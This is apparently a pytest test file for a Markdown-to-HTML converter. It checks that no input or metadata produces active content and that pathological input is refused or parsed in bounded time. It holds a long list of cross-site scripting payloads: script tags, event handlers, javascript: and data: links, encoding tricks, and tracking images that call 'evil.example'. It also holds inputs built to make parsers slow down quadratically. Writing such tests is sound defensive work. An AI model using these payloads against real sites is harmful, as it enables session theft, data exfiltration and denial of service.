"""No text and no metadata makes a page do anything, or takes a machine for long."""

from __future__ import annotations

import contextlib
import string
import time
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings, strategies as st

from trainer.errors import ConversionError
from trainer_markdown import FormatConverter
from trainer_markdown.markdown_writer import write
from trainer_markdown.reader import parse
from trainer_markdown.source import Source

PAYLOADS = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</script>",
    "text <script\n>steal()</script\n> text",
    "<script/x>steal()</script>",
    "- <script>steal()</script>",
    "> <script>steal()</script>",
    "| a |\n|---|\n| <script>steal()</script> |",
    "## <script>steal()</script>",
    "[^1]\n\n[^1]: <script>steal()</script>",
    "Term\n: <script>steal()</script>",
    "`<script>steal()</script>`",
    "```html\n<script>steal()</script>\n```",
    "```<script>steal()</script>\nx\n```",
    "<img src=x onerror=steal()>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img/src=`x`onerror=steal()>",
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<svg><animate onbegin=steal() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
    "<iframe src=javascript:steal()></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x'>",
    "<form action='https://evil.example'><input name=q><button>Go</button></form>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<p onclick=steal()>x</p>",
    "<b onmouseover=steal()>x</b>",
    "<br onclick=steal()>",
    "<sup style='position:fixed;inset:0'>x</sup>",
    "<video src='https://evil.example/x.mp4' autoplay></video>",
    "<audio><source src=x onerror=steal()></audio>",
    "<details open ontoggle=steal()>x</details>",
    "<template><script>steal()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<textarea><img title='</textarea><img src=x onerror=steal()>'></textarea>",
    "<!--><img src=x onerror=steal()>-->",
    "<!-- --!><script>steal()</script> -->",
    "<![CDATA[<script>steal()</script>]]>",
    "<?php steal() ?>",
    "</article></main></body><script>steal()</script>",
    "</style><script>steal()</script>",
    "[x](javascript:steal())",
    "[x](JaVaScRiPt:steal())",
    "[x](java&#10;script:steal())",
    "[x](javascript&colon;steal())",
    "[x](&#x6A;avascript:steal())",
    "[x](<java\tscript:steal()>)",
    "[x](\x01javascript:steal())",
    "[x](%6Aavascript:steal())",
    "[x](vbscript:steal())",
    "[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](blob:https://evil.example/x)",
    "[x][r]\n\n[r]: javascript:steal()",
    "<javascript:steal()>",
    "<data:text/html,<script>steal()</script>>",
    '[x](https://e.example "t\\" onmouseover=steal() x=\\"")',
    '[x](https://e.example/"onmouseover="steal())',
    "[x](https://e.example/'onmouseover='steal())",
    "![x](https://evil.example/pixel.gif?secret)",
    "![x](//evil.example/pixel.gif)",
    "![x](javascript:steal())",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4=)",
    '![x](data:image/png;base64,AA=="onerror="steal())',
    '!["onerror="steal()](data:image/png;base64,AA==)',
    '![x](data:image/png;base64,AA== "t\\"onerror=\\"steal()")',
    "![a][r]\n\n[r]: https://evil.example/pixel.gif",
    "https://e.example/<script>steal()</script>",
    'https://e.example/"onmouseover="steal()',
    "> [!NOTE] <img src=x onerror=steal()>\n> x",
    "Table: <script>steal()</script>\n\n| a |\n|---|\n| 1 |",
    "<b><script>steal()</script></b>",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "&#60;img src=x onerror=steal()&#62;",
    "\\<script>steal()\\</script>",
    "<script>steal()",
    "<a href='javascript:steal()'>x</a>",
    "<a\nhref=javascript:steal()\n>x</a>",
    "---\ntitle: '</title><script>steal()</script>'\n---\nx",
    "---\nsources: [{url: 'javascript:steal()', name: '<script>steal()</script>'}]\n---\nx",
    "---\n'<script>': '<img src=x onerror=steal()>'\n---\nx",
]

PATTERNS: dict[str, Callable[[int], str]] = {
    "emphasis that opens twice and closes twice": lambda n: "*a **a " * (n // 14) + "b" + " a** a*" * (n // 14),
    "emphasis that never closes": lambda n: "*a " * (n // 3),
    "emphasis that never opens": lambda n: "a* " * (n // 3),
    "strong words that never close": lambda n: "a**b" * (n // 4),
    "stars and underscores in turn": lambda n: "*_" * (n // 2),
    "one long run of stars": lambda n: "*" * (n // 2) + "a" + "*" * (n // 2),
    "a line of stars": lambda n: "*" * n + "a",
    "stars with spaces": lambda n: "* " * (n // 2) + "a",
    "deleted words that never close": lambda n: "~~a " * (n // 4),
    "single tildes": lambda n: " ~a" * (n // 3),
    "brackets": lambda n: "[" * n,
    "closing brackets": lambda n: "]" * n,
    "nested brackets": lambda n: "[" * (n // 2) + "a" + "]" * (n // 2),
    "nested links": lambda n: "[" * (n // 5) + "a" + "](b)" * (n // 5),
    "links that never close": lambda n: "[a](" * (n // 4),
    "addresses in angles that never close": lambda n: "[a](<b" * (n // 6),
    "titles that never close": lambda n: '[a](b "c' * (n // 8),
    "images": lambda n: "![" * (n // 2) + "a",
    "images in images": lambda n: "![[]()" * (n // 6),
    "brackets in an address": lambda n: "[a](" + "(" * n,
    "references": lambda n: "[a]: /u\n\n" + "[a]" * (n // 3),
    "definitions of references": lambda n: "".join(f"[{number}]: u\n" for number in range(n // 12)),
    "a long label": lambda n: "[" + "a" * n + "]: u",
    "code marks of every length": lambda n: "".join("`" * size + " a " for size in range(1, int((2 * n) ** 0.5))),
    "code marks": lambda n: "`a``b" * (n // 5),
    "escapes": lambda n: "\\" * n,
    "entities that never end": lambda n: "&a" * min(n // 2, 90_000),
    "tags that are never closed": lambda n: "<b>" * (n // 3),
    "tags that nest": lambda n: "<b>" * (n // 7) + "x" + "</b>" * (n // 7),
    "beginnings of tags": lambda n: "<a " * (n // 3),
    "attributes": lambda n: "<a" + " b=c" * (n // 4),
    "comments that never close": lambda n: "a <!--" * (n // 6),
    "instructions that never close": lambda n: "a <?" * (n // 4),
    "sections that never close": lambda n: "a <![CDATA[" * (n // 11),
    "addresses": lambda n: "https://" * (n // 8),
    "brackets in a bare address": lambda n: "https://a" + ")" * n,
    "mail addresses": lambda n: "a@b.c " * (n // 6),
    "a long mail address": lambda n: "a" * n + "@b.c",
    "quotes that nest": lambda n: ">" * n + "a",
    "lists that nest": lambda n: "- " * (n // 2) + "a",
    "quotes and lists in turn": lambda n: "> - " * (n // 4) + "a",
    "list items": lambda n: "- a\n" * (n // 4),
    "empty list items": lambda n: "-\n" * (n // 2),
    "lines that go on with a quote": lambda n: "> a\n" + "b\n" * (n // 2),
    "lines that go on with a list item": lambda n: "- a\n" + "b\n" * (n // 2),
    "lines that begin like something else": lambda n: "1986. a\n<x a\n" * (n // 13),
    "many short rows": lambda n: "|a|b|\n|-|-|\n" + "|a|b|\n" * min(n // 6, 80_000),
    "a wide head above short rows": lambda n: "|a" * (n // 8) + "|\n" + "|-" * (n // 8) + "|\n" + "|b|\n" * (n // 8),
    "pipes in lines that are no table": lambda n: ("|a" * 1_000 + "\n") * (n // 2_001),
    "dashes and spaces": lambda n: "a|b\n-|" + " " * n + "x",
    "footnotes that name each other": lambda n: "".join(f"[^{i}]: [^{i + 1}]\n" for i in range(n // 16)),
    "footnotes within footnotes": lambda n: "".join("    " * min(i, 50) + f"[^{i}]: a\n" for i in range(n // 200)),
    "definitions": lambda n: "a\n" + ": b\n" * (n // 4),
    "definitions that nest": lambda n: "a\n" + ": " * (n // 2) + "b",
    "formulas that never close": lambda n: "$`" * (n // 2),
    "fences": lambda n: "```\n" * (n // 4),
    "spaces within a heading": lambda n: "# a" + " " * n + "b",
    "headings of one name": lambda n: "# a\n" * (n // 4),
    "underlined headings": lambda n: "a\n=\n" * (n // 4),
    "empty lines": lambda n: "\n" * n,
    "front matter that nests": lambda n: "---\na: " + "[" * n + "\n---\nx",
    "signs to be escaped": lambda n: "& \u00a0" * min(n // 3, 90_000),
    "one long line": lambda n: "a " * (n // 2),
}


def used(text: str) -> float:
    """Processor time that reading and writing takes; a refusal takes time as well."""
    start = time.thread_time()
    with contextlib.suppress(ConversionError):
        write(parse(Source.read(text, {}).text)[0])
    return time.thread_time() - start


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_survives(convert, payload):
    assert convert(payload).active() == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_survives_between_other_words(convert, payload):
    page = convert(f"Before *the\n\n{payload}\n\nand after* it.")
    assert page.active() == []
    assert page.article.text.startswith("Before *the")


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>steal()</script>", '"><img src=x onerror=steal()>', "' onload='steal()", "</title><script>x</script>",
        "</style><script>x</script>", "javascript:steal()", "{{ 7 * 7 }}{% raw %}", "\ud800\0\x1b[31m", "x" * 100_000,
        -1, 1e400, float("nan"), True, None, [], {}, ["a", None, {"b": 1}], {"a": {"b": [1]}}, b"bytes", object(),
        [{"url": "javascript:steal()", "name": "<script>"}], [[1], 2], {"<script>": "<script>"}, [{1: 2}], 10**400,
    ],
    ids=lambda value: str(type(value).__name__),
)  # fmt: skip
@pytest.mark.parametrize(
    "key",
    ["title", "subtitle", "kicker", "run", "date", "model", "writer", "instruction", "params", "cost", "tokens", "prompt",
     "sources", "warnings", "findings", "other"],
)  # fmt: skip
def test_no_metadata_breaks_the_page_or_acts_on_it(convert, key, hostile):
    page = convert("The text.", **{"run": "r", key: hostile})
    assert page.active() == []
    assert page.article.text == "The text."
    assert "49" not in page.body.one("header").text


def test_a_source_with_a_hostile_address_shows_it_as_text(convert):
    section = convert("x", sources=[{"name": "n", "url": "javascript:steal()"}]).body.one("section", class_="appendix")
    assert section.all("a") == []
    assert "javascript:steal()" in section.text


@pytest.mark.parametrize("pattern", PATTERNS.values(), ids=PATTERNS)
def test_text_that_grows_on_its_reader_takes_time_in_proportion(pattern):
    used(pattern(2_000))
    times = [used(pattern(size)) for size in (10_000, 20_000, 40_000)]
    assert times[2] < 10 * times[0] + 0.1, times  # four times the text; in the square of it, sixteen times and more


@pytest.mark.parametrize("pattern", PATTERNS.values(), ids=PATTERNS)
def test_text_that_grows_on_its_reader_is_refused_or_becomes_a_page_of_bounded_size_and_depth(convert, pattern):
    text = pattern(20_000)
    try:
        page = convert(text)
    except ConversionError as refusal:
        assert refusal.remedy
        return
    assert page.deepest < 120
    assert len(page.html) < 60 * len(text) + 60_000


def test_reading_ends_with_its_budget():
    with pytest.raises(ConversionError, match="processor time"):
        parse("[a " * 1_600_000)


def test_emphasis_beyond_counting_is_left_as_it_is_written_and_declared(convert):
    page = convert("*a* " * 1000)
    assert page.article.text == "*a* " * 999 + "*a*"
    assert "marks of emphasis" in page.body.one("div", class_="callout warning").text


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("a" * 5_000_001, "5,000,000 are allowed"),
        ("€" * 1_700_000, "5,000,000 are allowed"),
        (b"a" * 5_000_001, "5,000,000 are allowed"),
        ("|" * 250_001, "250,000 are allowed"),
        ("&" * 100_001, "100,000 are allowed"),
        ("\u00a0" * 100_001, "100,000 are allowed"),
        ("|a" * 1000 + "|\n" + "|-" * 1000 + "|\n" + "|b|\n" * 1000, "250,000 cells"),
        ("[a]: <" + "b" * 100_000 + ">\n\n" + "[a] " * 1000, "10,000,000 characters"),
    ],
    ids=["characters", "bytes of characters", "bytes", "pipes", "ampersands", "spaces", "cells", "addresses"],
)
def test_text_beyond_the_limits_is_refused_with_the_limit(text, reason):
    with pytest.raises(ConversionError, match=reason) as caught:
        FormatConverter().convert(text, "markdown", "html")
    assert caught.value.remedy


def test_a_megabyte_of_prose_is_converted_whole(convert):
    paragraph = "The revenue of **Apple** rose by 5% to $391 billion, says [the filing](https://www.sec.gov).\n\n"
    page = convert(paragraph * (1_000_000 // len(paragraph)))
    assert len(page.article.all("p")) == 1_000_000 // len(paragraph)


SNIPPETS = [
    "*", "**", "_", "`", "```\n", "~~", "#", "## ", "\n", "\n\n", "    ", "- ", "1. ", "- [x] ", "> ", "> [!NOTE]\n", "|",
    "\n|---|---|\n", "| a | b |\n", "[", "](", ")", "![", "](javascript:x)", "](https://e.example)", "[^1]", "\n[^1]: ",
    "\n[r]: data:x\n", "<", ">", "<b>", "</b>", "<br>", "<script>", "</script>", "<img src=x onerror=y>", "<!--", "-->",
    "&", "&lt;", "&#0;", "\\", "\n: ", "---\n", "---", "Table: ", "$5", "-5", "https://e.example/", "www.", "\t", "\r", "\0", "é",
]  # fmt: skip
MARKUP = st.lists(st.sampled_from(SNIPPETS) | st.text(max_size=8), max_size=60).map("".join)
SLOW = settings(deadline=None)


@SLOW
@given(st.text() | MARKUP | st.binary())
@example("---\na: 1\n---\n")
@example("[^1]: a\n\n\ta[^1]")
def test_any_text_becomes_a_page_that_is_well_formed_and_does_nothing(convert, text):
    page = convert(text)
    assert page.active() == []
    assert len(page.root.all("h1")) == 1
    ids = [element.attrs["id"] for element in page.root.walk() if "id" in element.attrs]
    assert len(ids) == len(set(ids))


WORD = st.text(string.ascii_letters, min_size=3, max_size=9)
GLUE = st.sampled_from(
    [" ", "\n", "\n\n", " * ", " *", "* ", "**", "__", " _", "# ", "\n## ", "\n- ", "\n1. ", "\n> ", " | ", "\n|---|---|\n",
     "|\n|", " - ", "\n\n    ", "\n---\n", "\n***\n", " $", "%, ", " & ", " < ", " > ", "\\*", ". ", "!", "\n+ ", "\n===\n", " = ", "--"]
)  # fmt: skip


@SLOW
@given(st.lists(st.tuples(GLUE, WORD), max_size=40))
@example([("", "abc"), ("\n|---|\n", "def")])
def test_every_word_of_a_text_is_on_its_page(convert, parts):
    text = "".join(glue + word for glue, word in parts)
    shown = convert(text).body.text
    assert [word for _, word in parts if word not in shown] == []


@SLOW
@given(st.dictionaries(st.text() | st.sampled_from(["title", "run", "sources", "params"]), st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3), max_leaves=8), max_size=6))  # fmt: skip
def test_any_metadata_is_shown_without_effect(convert, metadata):
    assert convert("x", **metadata).active() == []
